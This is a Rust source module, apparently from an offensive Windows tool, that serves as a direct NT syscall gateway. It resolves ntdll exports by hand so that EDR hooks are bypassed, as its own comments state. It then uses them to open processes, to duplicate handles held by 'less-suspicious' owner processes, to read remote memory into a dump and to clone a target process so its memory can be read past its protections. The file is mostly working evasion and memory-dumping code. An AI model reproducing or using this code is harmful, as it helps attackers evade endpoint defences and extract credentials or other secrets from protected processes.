//! Direct NT syscall gateway.
//!
//! Everything in this module resolves and calls `ntdll.dll` exports by
//! hand instead of going through `kernel32`'s documented wrappers
//! (`OpenProcess`, `ReadProcessMemory`, `VirtualQueryEx`, ...) or even
//! `GetProcAddress` -- both are exactly the inspection points an EDR hooks.
//! `ntdll`'s base address is found by walking our own PEB's loader list
//! ([`crate::peb`]), and its export directory is parsed with `goblin::pe`
//! to recover the functions we need.
//!
//! This is the only module in the crate containing raw `extern "system"`
//! function-pointer types and `unsafe` syscall invocations; everything
//! built on top of it is safe Rust.
use std::ffi::c_void;

use windows_sys::Win32::Foundation::HANDLE;

#[allow(non_camel_case_types)]
pub type NTSTATUS = i32;

/// Wraps a raw NT status code.
///
/// Per spec: a call is a failure if the high bits of the status are not
/// zero (`status < 0` for the signed repr. matches this), with one named
/// exception -- `STATUS_PARTIAL_COPY` during a memory read is logged and
/// treated as a hole in the dump, not an abort.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NtStatus(pub NTSTATUS);

pub const STATUS_SUCCESS: NTSTATUS = 0x0000_0000u32 as NTSTATUS;
pub const STATUS_PARTIAL_COPY: NTSTATUS = 0x8000_000Du32 as NTSTATUS;

impl NtStatus {
    pub fn is_success(self) -> bool {
        self.0 >= 0
    }

    pub fn is_partial_copy(self) -> bool {
        self.0 == STATUS_PARTIAL_COPY
    }
}

impl std::fmt::Display for NtStatus {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:#010x}", self.0 as u32)
    }
}

impl std::error::Error for NtStatus {}

#[repr(C)]
#[derive(Clone, Copy)]
pub struct ClientId {
    pub unique_process: HANDLE,
    pub unique_thread: HANDLE,
}

#[repr(C)]
#[derive(Clone, Copy)]
pub struct ObjectAttributes {
    pub length: u32,
    pub root_directory: HANDLE,
    pub object_name: *mut c_void,
    pub attributes: u32,
    pub security_descriptor: *mut c_void,
    pub security_quality_of_service: *mut c_void,
}

impl ObjectAttributes {
    pub fn empty() -> Self {
        Self {
            length: std::mem::size_of::<Self>() as u32,
            root_directory: std::ptr::null_mut(),
            object_name: std::ptr::null_mut(),
            attributes: 0,
            security_descriptor: std::ptr::null_mut(),
            security_quality_of_service: std::ptr::null_mut(),
        }
    }
}

#[repr(C)]
#[derive(Clone, Copy, Default)]
pub struct MemoryBasicInformation {
    pub base_address: u64,
    pub allocation_base: u64,
    pub allocation_protect: u32,
    pub region_size: u64,
    pub state: u32,
    pub protect: u32,
    pub ty: u32,
}

type FnNtOpenProcess = unsafe extern "system" fn(
    process_handle: *mut HANDLE,
    desired_access: u32,
    object_attributes: *mut ObjectAttributes,
    client_id: *mut ClientId,
) -> NTSTATUS;

type FnNtDuplicateObject = unsafe extern "system" fn(
    source_process_handle: HANDLE,
    source_handle: HANDLE,
    target_process_handle: HANDLE,
    target_handle: *mut HANDLE,
    desired_access: u32,
    handle_attributes: u32,
    options: u32,
) -> NTSTATUS;

type FnNtReadVirtualMemory = unsafe extern "system" fn(
    process_handle: HANDLE,
    base_address: u64,
    buffer: *mut c_void,
    buffer_size: usize,
    number_of_bytes_read: *mut usize,
) -> NTSTATUS;

type FnNtQueryVirtualMemory = unsafe extern "system" fn(
    process_handle: HANDLE,
    base_address: u64,
    memory_information_class: u32,
    memory_information: *mut MemoryBasicInformation,
    memory_information_length: usize,
    return_length: *mut usize,
) -> NTSTATUS;

type FnNtClose = unsafe extern "system" fn(handle: HANDLE) -> NTSTATUS;

type FnNtQuerySystemInformation = unsafe extern "system" fn(
    system_information_class: u32,
    system_information: *mut c_void,
    system_information_length: u32,
    return_length: *mut u32,
) -> NTSTATUS;

type FnNtQueryInformationProcess = unsafe extern "system" fn(
    process_handle: HANDLE,
    process_information_class: u32,
    process_information: *mut c_void,
    process_information_length: u32,
    return_length: *mut u32,
) -> NTSTATUS;

type FnNtCreateProcessEx = unsafe extern "system" fn(
    process_handle: *mut HANDLE,
    desired_access: u32,
    object_attributes: *mut ObjectAttributes,
    parent_process: HANDLE,
    flags: u32,
    section_handle: HANDLE,
    debug_port: HANDLE,
    exception_port: HANDLE,
    in_job: u8,
) -> NTSTATUS;

/// Mirrors `PROCESS_BASIC_INFORMATION` as returned by
/// `NtQueryInformationProcess(ProcessBasicInformation)`. Only
/// `peb_base_address` is used by this crate.
#[repr(C)]
#[derive(Clone, Copy, Default)]
pub struct ProcessBasicInformation {
    pub exit_status: NTSTATUS,
    pub peb_base_address: u64,
    pub affinity_mask: u64,
    pub base_priority: i32,
    pub unique_process_id: u64,
    pub inherited_from_unique_process_id: u64,
}

const PROCESS_BASIC_INFORMATION_CLASS: u32 = 0;

/// The resolved set of `ntdll` entry points this crate needs.
///
/// Built once via [`Gateway::resolve`] and then threaded through every call
/// site that would otherwise reach for `kernel32`.
pub struct Gateway {
    nt_open_process: FnNtOpenProcess,
    nt_duplicate_object: FnNtDuplicateObject,
    nt_read_virtual_memory: FnNtReadVirtualMemory,
    nt_query_virtual_memory: FnNtQueryVirtualMemory,
    nt_query_information_process: FnNtQueryInformationProcess,
    nt_query_system_information: FnNtQuerySystemInformation,
    nt_create_process_ex: FnNtCreateProcessEx,
    nt_close: FnNtClose,
}

const MEMORY_BASIC_INFORMATION_CLASS: u32 = 0;

impl Gateway {
    /// Resolves every export this crate needs out of `ntdll`'s export
    /// directory. Failure here means the loader data or the export table
    /// itself is unreadable, which is unrecoverable -- there is no
    /// documented-API fallback to drop back to.
    pub fn resolve() -> crate::Result<Self> {
        let ntdll = crate::peb::ntdll_module()?;

        macro_rules! resolve_fn {
            ($name:literal) => {
                unsafe { std::mem::transmute(ntdll.find_export($name)?) }
            };
        }

        Ok(Self {
            nt_open_process: resolve_fn!("NtOpenProcess"),
            nt_duplicate_object: resolve_fn!("NtDuplicateObject"),
            nt_read_virtual_memory: resolve_fn!("NtReadVirtualMemory"),
            nt_query_virtual_memory: resolve_fn!("NtQueryVirtualMemory"),
            nt_query_information_process: resolve_fn!("NtQueryInformationProcess"),
            nt_query_system_information: resolve_fn!("NtQuerySystemInformation"),
            nt_create_process_ex: resolve_fn!("NtCreateProcessEx"),
            nt_close: resolve_fn!("NtClose"),
        })
    }

    /// Calls `NtQuerySystemInformation(SystemExtendedHandleInformation)`
    /// into a growable buffer, retrying with a larger allocation as the
    /// kernel reports how much space it actually needed. Used to find an
    /// existing handle to the target held by a less-suspicious owner
    /// process (the handle-duplication strategy).
    pub fn query_system_handle_information(&self) -> crate::Result<Vec<u8>> {
        const SYSTEM_EXTENDED_HANDLE_INFORMATION: u32 = 64;
        let mut size = 1 << 20;
        loop {
            let mut buf = vec![0u8; size];
            let mut needed = 0u32;
            let status = unsafe {
                (self.nt_query_system_information)(
                    SYSTEM_EXTENDED_HANDLE_INFORMATION,
                    buf.as_mut_ptr().cast(),
                    buf.len() as u32,
                    &mut needed,
                )
            };
            if NtStatus(status).is_success() {
                buf.truncate(needed.max(1) as usize);
                return Ok(buf);
            }
            if size > 1 << 28 {
                return Err(crate::error::Error::ReadFailed);
            }
            size *= 2;
        }
    }

    /// Calls `NtQueryInformationProcess(ProcessBasicInformation)` for
    /// `process`, as seen from the kernel's view of that process (not our
    /// own address space). Backs both [`Gateway::peb_address`] and
    /// [`Gateway::process_id`].
    pub fn process_basic_information(&self, process: HANDLE) -> crate::Result<ProcessBasicInformation> {
        let mut info = ProcessBasicInformation::default();
        let status = unsafe {
            (self.nt_query_information_process)(
                process,
                PROCESS_BASIC_INFORMATION_CLASS,
                (&mut info as *mut ProcessBasicInformation).cast(),
                std::mem::size_of::<ProcessBasicInformation>() as u32,
                std::ptr::null_mut(),
            )
        };
        if !NtStatus(status).is_success() {
            return Err(crate::error::Error::ReadFailed);
        }
        Ok(info)
    }

    /// Returns the PEB base address for `process`.
    pub fn peb_address(&self, process: HANDLE) -> crate::Result<u64> {
        Ok(self.process_basic_information(process)?.peb_base_address)
    }

    /// Returns the pid the kernel considers `process` to be, regardless of
    /// how the handle was obtained -- used to verify a handle acquired by
    /// duplication or cloning actually refers to the process it claims to.
    pub fn process_id(&self, process: HANDLE) -> crate::Result<u32> {
        Ok(self.process_basic_information(process)?.unique_process_id as u32)
    }

    pub fn open_process(&self, pid: u32, desired_access: u32) -> (NtStatus, HANDLE) {
        let mut handle: HANDLE = std::ptr::null_mut();
        let mut client_id = ClientId {
            unique_process: pid as HANDLE,
            unique_thread: std::ptr::null_mut(),
        };
        let mut object_attributes = ObjectAttributes::empty();
        let status = unsafe {
            (self.nt_open_process)(
                &mut handle,
                desired_access,
                &mut object_attributes,
                &mut client_id,
            )
        };
        (NtStatus(status), handle)
    }

    pub fn duplicate_object(
        &self,
        source_process: HANDLE,
        source_handle: HANDLE,
        target_process: HANDLE,
        desired_access: u32,
        options: u32,
    ) -> (NtStatus, HANDLE) {
        let mut target_handle: HANDLE = std::ptr::null_mut();
        let status = unsafe {
            (self.nt_duplicate_object)(
                source_process,
                source_handle,
                target_process,
                &mut target_handle,
                desired_access,
                0,
                options,
            )
        };
        (NtStatus(status), target_handle)
    }

    /// Reads `buffer.len()` bytes from `process` at `address`.
    ///
    /// A `STATUS_PARTIAL_COPY` result is not treated as a hard failure by
    /// this function -- it returns the number of bytes actually copied (if
    /// any) alongside the status, and leaves the decision of what to do
    /// with a hole to the caller ([`crate::memory_enumerator`]).
    pub fn read_virtual_memory(
        &self,
        process: HANDLE,
        address: u64,
        buffer: &mut [u8],
    ) -> (NtStatus, usize) {
        let mut bytes_read = 0usize;
        let status = unsafe {
            (self.nt_read_virtual_memory)(
                process,
                address,
                buffer.as_mut_ptr().cast(),
                buffer.len(),
                &mut bytes_read,
            )
        };
        (NtStatus(status), bytes_read)
    }

    pub fn query_virtual_memory(
        &self,
        process: HANDLE,
        address: u64,
    ) -> (NtStatus, MemoryBasicInformation) {
        let mut info = MemoryBasicInformation::default();
        let status = unsafe {
            (self.nt_query_virtual_memory)(
                process,
                address,
                MEMORY_BASIC_INFORMATION_CLASS,
                &mut info,
                std::mem::size_of::<MemoryBasicInformation>(),
                std::ptr::null_mut(),
            )
        };
        (NtStatus(status), info)
    }

    /// Clones `parent_process` into a brand-new process object whose
    /// address space starts as a copy-on-write snapshot of the parent's --
    /// the "fork" strategy (spec.md §4.C strategy 4). Passing no section
    /// handle and a real `parent_process` is what makes this a clone
    /// rather than a fresh image load; the returned process never runs any
    /// code of its own, it's just a vessel for reading the parent's memory
    /// through a handle that isn't subject to the parent's own protections.
    pub fn create_process_ex(&self, parent_process: HANDLE, desired_access: u32) -> (NtStatus, HANDLE) {
        let mut handle: HANDLE = std::ptr::null_mut();
        let mut object_attributes = ObjectAttributes::empty();
        let status = unsafe {
            (self.nt_create_process_ex)(
                &mut handle,
                desired_access,
                &mut object_attributes,
                parent_process,
                0,
                std::ptr::null_mut(),
                std::ptr::null_mut(),
                std::ptr::null_mut(),
                0,
            )
        };
        (NtStatus(status), handle)
    }

    pub fn close(&self, handle: HANDLE) -> NtStatus {
        NtStatus(unsafe { (self.nt_close)(handle) })
    }
}
